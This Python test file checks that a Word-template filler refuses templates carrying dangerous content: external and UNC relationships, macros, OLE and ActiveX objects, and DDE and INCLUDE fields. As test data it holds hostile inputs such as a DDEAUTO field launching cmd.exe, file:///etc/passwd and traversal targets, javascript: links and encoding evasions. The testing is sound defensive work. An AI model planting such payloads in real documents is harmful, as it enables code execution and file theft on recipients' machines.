"""What a Word template may be made of: no relationship, part, field or element fetches, runs or hides."""

import base64
import io
import zipfile

import docx
import pytest

from sync_server.papers.reports.word_filling import fill
from tests.sync_server.word_attacks import (
    OFFICE,
    RELATIONS,
    context,
    edited,
    field,
    ours,
    refusal,
    with_part,
    with_relation,
    with_run,
    with_xml,
)

_KIND = "application/vnd.openxmlformats-officedocument"
_SETTINGS = "word/_rels/settings.xml.rels"


def relation(type_: str, target: str, more: str = 'TargetMode="External"') -> str:
    return f'<Relationship Id="r99" Type="{OFFICE}/{type_}" Target="{target}" {more}/>'


def settings_rels(xml: str) -> bytes:
    return with_part(_SETTINGS, f'<Relationships xmlns="{RELATIONS}">{xml}</Relationships>'.encode())


_PNG = b"\x89PNG\r\n\x1a\n"


def with_png_type() -> bytes:
    told = b'<Default Extension="png" ContentType="image/png"/></Types>'
    with zipfile.ZipFile(io.BytesIO(ours())) as packed:
        return packed.read("[Content_Types].xml").replace(b"</Types>", told)


@pytest.mark.parametrize(
    ("template", "why"),
    [
        (settings_rels(relation("attachedTemplate", "http://else.test/t.dotm")), "outside"),
        (settings_rels(relation("attachedTemplate", "http://else.test/t.dotm").replace('"', "'")), "outside"),
        (
            settings_rels(
                '<Relationship TargetMode="External" Target="\\\\else\\t.dotm" Id="r" '
                f'Type="{OFFICE}/frame"/>'
            ),
            "outside",
        ),
        (
            with_part(
                _SETTINGS,
                f'<p:Relationships xmlns:p="{RELATIONS}"><p:Relationship Id="r" TargetMode="External" '
                f'Type="{OFFICE}/attachedTemplate" Target="file:///c:/t.dotm"/></p:Relationships>'.encode(),
            ),
            "outside",
        ),
        (
            with_part(
                _SETTINGS,
                f'<?xml version="1.0"?><!-- x --><Relationships xmlns="{RELATIONS}">'
                f"{relation('attachedTemplate', 'http://else.test/t.dotm')}</Relationships>".encode("utf-16"),
            ),
            "outside",
        ),
        (with_relation(relation("image", "http://else.test/a.png")), "outside"),
        (with_relation(relation("image", r"\\else\share\a.png")), "outside"),
        (with_relation(relation("image", "file:///etc/passwd")), "outside"),
        (with_relation(relation("image", "http://else.test/a.png", "")), "outside"),
        (with_relation(relation("image", "//else.test/a.png", "")), "outside"),
        (with_relation(relation("image", "../../../etc/passwd", "")), "outside"),
        (with_relation(relation("image", "a.png", 'TargetMode="external"')), "outside"),
        (with_relation(relation("image", "a.png", 'TargetMode="Else"')), "outside"),
        (with_relation(relation("hyperlink", "file:///c:/x.exe")), "outside"),
        (with_relation(relation("hyperlink", "javascript:alert(1)")), "outside"),
        (with_relation(relation("hyperlink", r"\\else\share")), "outside"),
        (with_relation(relation("oleObject", "styles.xml", "")), "object"),
        (with_relation(relation("package", "styles.xml", "")), "object"),
        (with_relation(relation("aFChunk", "styles.xml", "")), "object"),
        (with_relation(relation("control", "styles.xml", "")), "object"),
        (with_relation(relation("subDocument", "http://else.test/a.docx")), "outside"),
        (
            with_relation(relation("styles", "styles.xml", 'x="1"')),
            "part",
        ),
        (
            with_relation(
                '<Relationship Id="r99" Target="styles.xml" '
                'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
            ),
            "macros",
        ),
        (with_part("word/vbaProject.bin", b"x"), "macros"),
        (with_part("word/VBAPROJECT.BIN", b"x"), "macros"),
        (with_part("word/x.bin", b"x", ending="application/vnd.ms-office.vbaProject"), "macros"),
        (with_part("word/embeddings/a.xlsx", b"PK", ending="application/vnd.ms-excel"), "part"),
        (
            with_part("word/a.bin", b"x", ending=f"{_KIND}.oleObject"),
            "object",
        ),
        (with_part("word/activeX1.xml", b"<x/>", "application/vnd.ms-office.activeX+xml"), "object"),
        (with_part("word/a.html", b"<x/>", ending="text/html"), "part"),
        (with_part("word/a.xml", b"<x/>", "text/html"), "part"),
        (with_part("word/a.svg", b"<svg/>", ending="image/svg+xml"), "part"),
        (
            with_part(
                "word/a.png",
                b"<x/>",
                f"{_KIND}.wordprocessingml.footer+xml",
            ),
            "part",
        ),
        (with_part("word/y.png", b"<svg/>", ending="image/png"), "part"),
        (with_part("word/y.emf", b"%!PS-Adobe", ending="image/x-emf"), "part"),
        *(
            (
                with_relation(
                    relation(kind, "y.png", ""),
                    {"word/y.png": _PNG, "[Content_Types].xml": with_png_type()},
                ),
                "part",
            )
            for kind in ("footer", "header", "footnotes", "settings", "glossaryDocument")
        ),
        (with_relation(relation("image", "styles.xml", "")), "part"),
        (with_relation(relation("image", "%2566ile:///etc/passwd", "")), "outside"),
        (with_relation(relation("image", "media/..%5C..%5Cx", "")), "outside"),
        (with_relation(relation("image", "FiLe:///x", "")), "outside"),
        (with_relation(relation("hyperlink", "ht&#9;tp://else.test/")), "outside"),
        (with_relation(relation("hyperlink", " http://else.test/")), "outside"),
        (
            with_xml(
                '<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main">'
                '<sl:schema sl:manifestLocation="http://else.test/m"/></sl:schemaLibrary>'
            ),
            "outside",
        ),
        (with_part("word/a.xml", b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"), "file.xml"),
        (with_part("../a.xml", b"<x/>"), "file.names"),
    ],
)
def test_nothing_comes_from_elsewhere_or_hides_in_the_file(template: bytes, why: str) -> None:
    """However a relationship or part is written: no address but links, no program, no other file."""
    assert refusal(template).key == (why if "." in why else f"template.{why}")


_VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
_R = f'xmlns:r="{OFFICE}"'


@pytest.mark.parametrize(
    ("template", "why"),
    [
        (field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"'), "field"),
        (field("DDE", 'AUTO c:\\\\cmd.exe "/k calc"'), "field"),
        (field("D", "D", "E", " x y"), "field"),
        (field("  ddeauto x"), "field"),
        (field('INCLUDETEXT "http://else.test/a.docx"'), "field"),
        (field('INCLUDEPICTURE "\\\\else\\a.png"'), "field"),
        (field("LINK Excel.Sheet.8 a.xls"), "field"),
        (field("EMBED Package"), "field"),
        (field("IMPORT a.png"), "field"),
        (field("MACROBUTTON x y"), "field"),
        (field("RD a.docx"), "field"),
        (field("DATABASE \\d a.mdb"), "field"),
        (field("QUOTE 68 68 69"), "field"),
        (field("HYPERLINK \\\\else\\share"), "field"),
        (field('HYPERLINK "file:///c:/x.exe"'), "field"),
        (field('HYPERLINK \\l "a" "javascript:x"'), "field"),
        (field("{{ it.number }}"), "field"),
        (field("PAGE {{ it.number }}"), "field"),
        (with_xml('<w:p><w:fldSimple w:instr="DDEAUTO x y"/></w:p>'), "field"),
        (with_xml("<w:p><w:fldSimple w:instr='INCLUDETEXT x'><w:r/></w:fldSimple></w:p>"), "field"),
        (with_run("<w:instrText>DDEAUTO x</w:instrText>"), "field"),
        (with_run('<w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO x</w:instrText>'), "field"),
        (with_run('<w:fldChar w:fldCharType="begin"/><w:delInstrText>DDEAUTO x</w:delInstrText>'), "field"),
        (
            with_run(
                '<w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText>'
                '<w:fldChar w:fldCharType="separate"/><w:instrText>DDEAUTO x</w:instrText>'
                '<w:fldChar w:fldCharType="end"/>'
            ),
            "field",
        ),
        (
            with_run(
                '<w:fldChar w:fldCharType="begin"/><w:instrText>PAGE </w:instrText>'
                '<w:fldChar w:fldCharType="begin"/><w:instrText>TITLE</w:instrText>'
                '<w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/>'
            ),
            "field",
        ),
        (with_run('<w:fldChar w:fldCharType="end"/>'), "field"),
        (with_xml(f'<w:altChunk {_R} r:id="rId1"/>'), "object"),
        (with_run("<w:object/>"), "object"),
        (with_run('<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/>'), "object"),
        (with_xml(f'<w:p><w:subDoc {_R} r:id="rId1"/></w:p>'), "outside"),
        *(
            (with_run(f"<w:pict {_VML}><v:shape><v:{name} o:href='{where}'/></v:shape></w:pict>"), "outside")
            for name in ("imagedata", "fill", "stroke")
            for where in ("http://else.test/a.png", "#a")
        ),
        (
            with_run(
                '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://else.test/a"/>'
                "</v:shape></w:pict>"
            ),
            "outside",
        ),
        (
            with_run(
                '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file:///c:/x"/></w:pict>'
            ),
            "outside",
        ),
        (
            with_run(
                f'<w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" {_R} '
                'r:link="rId1"/></w:drawing>'
            ),
            "outside",
        ),
    ],
)
def test_no_field_or_element_fetches_or_runs(template: bytes, why: str) -> None:
    """Fields and elements that reach beyond the document are refused, whole, split, nested or left open."""
    assert refusal(template).key == f"template.{why}"


@pytest.mark.parametrize(
    "template",
    [
        field("PAGE"),
        field(" NUM", "PAGES \\* MERGEFORMAT "),
        field('TOC \\o "1-3" \\h'),
        field('HYPERLINK "https://binhphuoc.gov.vn/a?b=1" \\t "_blank"'),
        field("HYPERLINK \\l _Toc1 \\h"),
        field('DATE \\@ "dd/MM/yyyy"'),
        with_relation(relation("hyperlink", "https://chinhphu.vn/")),
        with_relation(relation("hyperlink", "mailto:ubnd@longthuy.vn")),
        with_part("customXml/item1.xml", b"<object src='x'/>"),
    ],
)
def test_what_word_writes_by_itself_is_let_through(template: bytes) -> None:
    """Page numbers, contents, dates, links and data of other programs are no reason to refuse."""
    assert docx.Document(io.BytesIO(fill(context(), template))).paragraphs


_DOT = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def test_a_picture_of_the_wards_own_is_let_through() -> None:
    """A coat of arms in the template comes out in the report as it was."""
    filled = fill(context(), edited(lambda word: word.add_picture(io.BytesIO(_DOT))))
    with zipfile.ZipFile(io.BytesIO(filled)) as packed:
        assert _DOT in [packed.read(name) for name in packed.namelist() if name.endswith(".png")]
